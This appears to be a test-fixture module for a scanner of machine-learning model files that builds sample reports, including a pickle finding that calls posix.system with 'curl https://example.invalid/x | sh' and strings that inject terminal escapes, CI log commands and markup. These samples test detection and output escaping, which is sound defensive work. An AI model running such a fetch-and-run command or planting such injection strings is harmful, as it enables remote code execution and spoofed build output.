"""Reports as scans write them: the everyday ones, and one in which every scanned string is hostile."""

from __future__ import annotations

from scanner.model.artifact import Artifact
from scanner.model.fact import Gap
from scanner.model.finding import Finding, fingerprint_of
from scanner.model.place import Place
from scanner.model.report import Inventory, Report, RuleInfo, TargetReport
from scanner.model.verdict import Reason, Verdict

PICKLE_RULE = RuleInfo(
    id="pickle-unsafe-callable",
    title="A pickle calls code that can harm",
    why="Loading a pickle runs the functions that it names, with arguments of its author's choice.\nThis one names a "
    "function that starts programs, opens connections or evaluates code.",
    fix="Do not load the file. Ask its author for **safetensors** weights, or convert them in a sandbox.",
    action="Do not load these files",
    severity="critical",
    confidence="very-high",
    tags=("security", "pickle"),
    references=("https://docs.python.org/3/library/pickle.html",),
    security_severity=9.8,
)
LICENSE_RULE = RuleInfo(
    id="license-restricted-use",
    title="The licence restricts what the model may be used for",
    why="The terms forbid some uses, and ask that whoever receives the model is bound by them too.",
    fix="Read the restrictions with whoever answers for the product, then record the decision as a waiver.",
    action="Have the licence read",
    severity="medium",
    confidence="high",
    tags=("license",),
)
NOTE_RULE = RuleInfo(
    id="pickle-import",
    title="A pickle imports a name",
    why="Only the names that a pickle imports can run when it is loaded.",
    fix="Nothing, if you trust the library.",
    action="Look at these names",
    severity="info",
    confidence="high",
    tags=("security", "pickle"),
    security_severity=0.1,
)
RULES = (PICKLE_RULE, LICENSE_RULE, NOTE_RULE)

ESCAPES = "\x1b[2J\x1b]8;;http://x\x07\u202egnp.exe\u200b\n::error file=a::pwned\r##[error]x ##vso[task.setvariable]y"
MARKUP = "[red]red[/] {0} {{1}} {callable} [link](http://x) <script>`tick`</script> \udcff"


def finding(rule: RuleInfo, place: Place, message: str, **fields: object) -> Finding:
    """A finding of ``rule`` with the rule's own severity, confidence and tags."""
    cause = str(fields.pop("cause", message))
    values = {"severity": rule.severity, "confidence": rule.confidence, "tags": rule.tags, **fields}
    return Finding(rule.id, place, message, fingerprint=fingerprint_of(rule.id, place.path, cause), **values)  # type: ignore[arg-type]


def verdict(found: Finding, outcome: str, text: str, origin: str = "policies/default.yaml:12") -> Verdict:
    """The policy's word on ``found``."""
    return Verdict(found.fingerprint, outcome, (Reason(text, origin),))


def target(name: str, answer: str, judged: list[tuple[Finding, Verdict]], **fields: object) -> TargetReport:
    """A target whose inventory is small but not empty, unless ``fields`` say otherwise."""
    inventory = Inventory(12, 3, 4_100_000_000, 1_234_567, (("gitignore", 4), ("virtual-environment", 1200)))
    values = {"source": "folder", "inventory": inventory, **fields}
    findings = tuple(sorted((found for found, _ in judged), key=Finding.sort_key))
    return TargetReport(name, answer=answer, findings=findings, verdicts=tuple(v for _, v in judged), **values)  # type: ignore[arg-type]


def report(*targets: TargetReport, **fields: object) -> Report:
    """A report whose answer and exit code follow from its targets."""
    answers = {entry.answer for entry in targets}
    answer = next((word for word in ("fail", "incomplete") if word in answers), "pass")
    values = {"exit_code": {"fail": 1, "incomplete": 3, "pass": 0}[answer], "rules": RULES, **fields}
    created = "2026-11-21T22:00:00Z"
    return Report("0.1.0", created, "default", "built-in", "5f" * 8, answer, targets=targets, **values)  # type: ignore[arg-type]


def denied_call() -> tuple[Finding, Verdict]:
    """A pickle in a zip member that starts a program, denied."""
    found = finding(
        PICKLE_RULE,
        Place("weights/pytorch_model.bin", "archive/data.pkl", offset=1234, length=28),
        "The pickle calls posix.system with 'curl https://example.invalid/x | sh' when it is loaded",
        attributes=(("callable", "posix.system"), ("use", "call"), ("resolved", True), ("protocol", 2)),
        count=3,
        excerpt=(
            "1234: c GLOBAL     'posix system'",
            "1248: ( MARK",
            "1249: X BINUNICODE 'curl https://example.invalid/x | sh'",
            "1288: t TUPLE      (MARK at 1248)",
            "1289: R REDUCE",
        ),
    )
    return found, verdict(found, "deny", "code would run when the file is loaded")


def license_review() -> tuple[Finding, Verdict]:
    """A licence declared on a line of the card, to review."""
    found = finding(
        LICENSE_RULE,
        Place("README.md", line=7, column=1),
        "The card declares openrail++, whose terms restrict use. They bind whoever receives the model",
        attributes=(("id", "openrail++"), ("license", "openrail-pp"), ("spdx", None)),
        related=(Place("LICENSE.txt", line=1), Place("weights/pytorch_model.bin")),
        excerpt=("license: openrail++",),
    )
    return found, verdict(found, "review", "a person reads licences that restrict use", "policies/default.yaml:31")


def bare_pickle() -> tuple[Finding, Verdict]:
    """A pickle that is the whole file, so that its offsets are the file's; denied."""
    place = Place("data/Modell fünf #1.pkl", offset=20, length=11)
    found = finding(PICKLE_RULE, place, "The pickle calls a function.", attributes=(("callable", "builtins.eval"),))
    return found, verdict(found, "deny", "code would run when the file is loaded")


def allowed_notes(number: int) -> list[tuple[Finding, Verdict]]:
    """Imports that the policy accepts."""
    names = [f"collections.Kind{index}" for index in range(number)]
    found = [
        finding(NOTE_RULE, Place("weights/pytorch_model.bin", "archive/data.pkl", 2), f"Imports {n}") for n in names
    ]
    return [(entry, verdict(entry, "allow", "no reason to stop", "policies/default.yaml:40")) for entry in found]


UNSUPPORTED = Gap(
    "unsupported-format",
    Place("export/model.mystery"),
    "No reader knows this format. Convert the file to safetensors, or exclude it with --exclude",
)
POINTER = Gap(
    "pointer",
    Place("weights/model-00002-of-00002.safetensors"),
    "The file is a Git LFS pointer whose content was never fetched. Run git lfs pull to have it scanned",
    incomplete=False,
)


def clean() -> Report:
    """Nothing found, everything read."""
    inventory = Inventory(3, 3, 52_000, 4_096)
    artifacts = (Artifact("model.safetensors", 51_000, formats=("safetensors",), role="weights"),)
    return report(target("examples/clean", "pass", [], inventory=inventory, artifacts=artifacts), rules=())


def failed() -> Report:
    """One of each: denied, to review, allowed, not fully checked, not scanned."""
    judged = [denied_call(), license_review(), *allowed_notes(4)]
    return report(target("examples/unsafe", "fail", judged, gaps=(UNSUPPORTED, POINTER)))


def incomplete() -> Report:
    """Nothing found in what could be read."""
    return report(target("examples/partial", "incomplete", [], gaps=(UNSUPPORTED,)))


def passed_with_review() -> Report:
    """A pass that still has something to say."""
    return report(
        target("examples/card", "pass", [license_review()], gaps=(POINTER,)), notes=("a waiver is unused: w1",)
    )


def many() -> Report:
    """Several targets, of which one is on the Hub."""
    hub = target("hf://org/model@main", "fail", [denied_call(), bare_pickle()], source="hub", revision="0123abcd" * 5)
    other = target("examples/clean", "pass", [], inventory=Inventory(3, 3, 52_000, 4_096))
    nothing = target("docs", "pass", [], inventory=Inventory(9, 0, 1_000, 0))
    partial = target("examples/partial", "incomplete", [license_review()], gaps=(UNSUPPORTED,))
    return report(other, nothing, partial, hub)


def hostile() -> Report:
    """Every string that a scanned repo can choose tries to act."""
    long = "x" * 10_000
    first = finding(
        PICKLE_RULE,
        Place(f"a{ESCAPES}/b%20?#.bin", f"{MARKUP}/data.pkl", offset=0),
        f"::error::first. {ESCAPES} {MARKUP} {long}",
        attributes=(("callable", f"{ESCAPES}.{MARKUP}"),),
        excerpt=(ESCAPES, MARKUP, long, "```", "::error::x", "界" * 300, *["more"] * 40),
    )
    second = finding(LICENSE_RULE, Place(f"{long}/\udc80\udcff.md", line=3), MARKUP, related=(Place(ESCAPES, line=1),))
    reasons = (Reason(f"{ESCAPES}{MARKUP}", f"{ESCAPES}:1"), Reason(""))
    judged = [(first, Verdict(first.fingerprint, "deny", reasons)), (second, verdict(second, "review", MARKUP))]
    gaps = (Gap("unreadable", Place(f"::error::{ESCAPES}"), f"::warning::{ESCAPES} {'界' * 200} ::error::{MARKUP}"),)
    inventory = Inventory(2, 2, 10**30, 10**30, ((ESCAPES, 3),))
    hurt = target(f"{ESCAPES}{MARKUP}", "fail", judged, gaps=gaps, inventory=inventory, revision=ESCAPES)
    return report(hurt, notes=(ESCAPES, MARKUP))


COMMIT = "0123abcd" * 5


def on_hub() -> Report:
    """A repo of the Hub that no local file names."""
    said = finding(NOTE_RULE, Place("(hub)"), "The Hub calls a file unsafe.", cause="verdict")
    judged = [denied_call(), license_review(), (said, verdict(said, "review", "look at it"))]
    gaps = (Gap("offline", Place("(hub)"), "The scan is offline."), UNSUPPORTED)
    return report(target("hf://org/model@main", "fail", judged, source="hub", revision=COMMIT, gaps=gaps))


def named(*places: Place, model: str = "hf://org/model", **fields: object) -> TargetReport:
    """A model that two lines of code name, unless ``places`` are given."""
    where = places or (Place("src/app.py", line=12, column=20), Place("deploy/values.yaml", line=3, column=8))
    gaps = (UNSUPPORTED, Gap("gated", Place("(hub)"), "Ask for access."))
    values = {"source": "hub", "revision": COMMIT, "gaps": gaps, **fields}
    return target(model, "fail", [denied_call(), license_review()], named=where, **values)


def models_in() -> Report:
    """Models that local files name, the account of the files, and a folder beside them."""
    searched = target(".", "pass", [], source="models-in")
    second = named(Place("a b/#1.py", line=1), model="hf://org/model@v2")
    data = named(model="hf://datasets/org/rows")
    return report(searched, named(), second, data, target("weights", "fail", [denied_call()]))


def merged(number: int = 25) -> Report:
    """More models than a file has runs, some named by local files and some not."""
    here = [named(Place(f"src/{index}.py", line=index + 1), model=f"hf://org/m{index}") for index in range(number)]
    far = [
        target(f"hf://org/far{index}", "fail", [denied_call()], source="hub", revision=COMMIT)
        for index in range(number)
    ]
    return report(*here, *far)


def hostile_named() -> Report:
    """Names of models, files and places as an attacker would choose them."""
    odd = finding(
        PICKLE_RULE, Place(f"a/{ESCAPES}/{MARKUP}) [x](y", MARKUP), ESCAPES + MARKUP, excerpt=(ESCAPES, MARKUP)
    )
    place = Place(f"src/{ESCAPES}{MARKUP}.py", line=1, column=1)
    judged = [(odd, verdict(odd, "deny", ESCAPES + MARKUP))]
    here = target(f"hf://org/{MARKUP}", "fail", judged, source="hub", revision=ESCAPES, named=(place, place))
    far = target(f"hf://org/{ESCAPES}", "fail", judged, source="hub", revision=MARKUP)
    return report(here, far)
